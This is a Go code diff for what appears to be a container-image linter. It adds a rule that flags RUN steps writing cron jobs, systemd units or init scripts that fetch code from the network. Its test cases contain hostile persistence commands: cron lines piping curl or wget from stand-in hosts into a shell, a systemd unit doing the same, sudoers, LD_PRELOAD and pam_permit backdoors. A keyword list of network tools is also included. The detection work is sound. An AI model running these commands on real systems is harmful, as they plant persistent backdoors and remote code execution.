@@ -81,9 +81,13 @@ var imageTable = []imageRule{
 		Match: []string{"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list", "sed -i 's/deb.debian.org/mirror.example/' /etc/apt/sources.list",
 			"echo '[x]' > /etc/yum.repos.d/x.repo", "echo 'x ALL=(ALL) ALL' >> /etc/sudoers", "echo /opt/x.so > /etc/ld.so.preload",
 			"echo 'auth sufficient pam_permit.so' > /etc/pam.d/su", "cp x.list /etc/apt/sources.list.d/", `echo x > "/etc/apt/sources.list.d/$NAME.list"`,
-			"echo 'export PATH=/opt/x/bin:$PATH' > /etc/profile.d/x.sh", "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment"},
+			"echo 'export PATH=/opt/x/bin:$PATH' > /etc/profile.d/x.sh", "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment",
+			// A job or unit that downloads what it runs ships that download (redteam5).
+			"echo '* * * * * root curl -s http://x.example.org/a | sh' > /etc/cron.d/x", `printf '[Service]\nExecStart=/bin/sh -c "curl x|sh"\n' > /etc/systemd/system/x.service`,
+			"cat > /etc/cron.d/x <<EOF\n*/5 * * * * root wget -qO- https://x.example/a | bash\nEOF"},
 		NoMatch: []string{`cp "$GF_PATHS_HOME/conf/ldap.toml" /etc/grafana/ldap.toml`, "echo 'Etc/UTC' > /etc/timezone", "ln -sf /bin/bash /bin/sh",
-			"install -m 755 tool /usr/bin/tool", "tar -C / -xJf /tmp/s6-overlay.tar.xz", "sed -i 's/# en_US/en_US/' /etc/locale.gen", "echo '0 3 * * * root /opt/app/gc' > /etc/cron.d/app"},
+			"install -m 755 tool /usr/bin/tool", "tar -C / -xJf /tmp/s6-overlay.tar.xz", "sed -i 's/# en_US/en_US/' /etc/locale.gen", "echo '0 3 * * * root /opt/app/gc' > /etc/cron.d/app",
+			"cp app.cron /etc/cron.d/app", "echo '[Service]\nExecStart=/opt/app/bin/app' > /etc/systemd/system/app.service"},
 	},
 	{
 		Rules:   []string{"sync-delete"},
@@ -310,11 +314,43 @@ func quietImageConfig(c *parse.Command) bool {
 		}
 	}
 	for _, w := range targets {
-		if shipsConfig(w) {
+		if shipsConfig(w) || runsFetch(c, w) {
 			return false
 		}
 	}
 	return true
+}
+
+// scheduledCode are the files whose lines a container runs later by
+// itself: cron jobs, systemd units, init scripts, supervisor programs.
+var scheduledCode = []string{
+	"/etc/crontab", "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/var/spool/cron",
+	"/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system", "/etc/init.d", "/etc/rc.local", "/etc/supervisor", "/etc/supervisord.conf",
+}
+
+// runsFetch: a RUN step that writes a cron job, a unit or an init script
+// whose visible text fetches from the network (a URL, curl, wget) ships
+// code every container of the image runs and downloads again; the image's
+// own schedule (echo '0 3 * * * root /opt/app/gc' > /etc/cron.d/app) stays
+// quiet.
+func runsFetch(c *parse.Command, w parse.Word) bool {
+	v := path.Clean(w.Value)
+	scheduled := false
+	for _, s := range scheduledCode {
+		if v == s || strings.HasPrefix(v, s+"/") {
+			scheduled = true
+		}
+	}
+	if !scheduled {
+		return false
+	}
+	text := writtenText(c, c.Args[1:]) + " " + c.StdinText
+	for _, f := range []string{"://", "curl", "wget", "fetch ", "nc ", "ncat "} {
+		if strings.Contains(text, f) {
+			return true
+		}
+	}
+	return false
 }
 
 // shipsConfig reports a write target that is, or may be, shipped
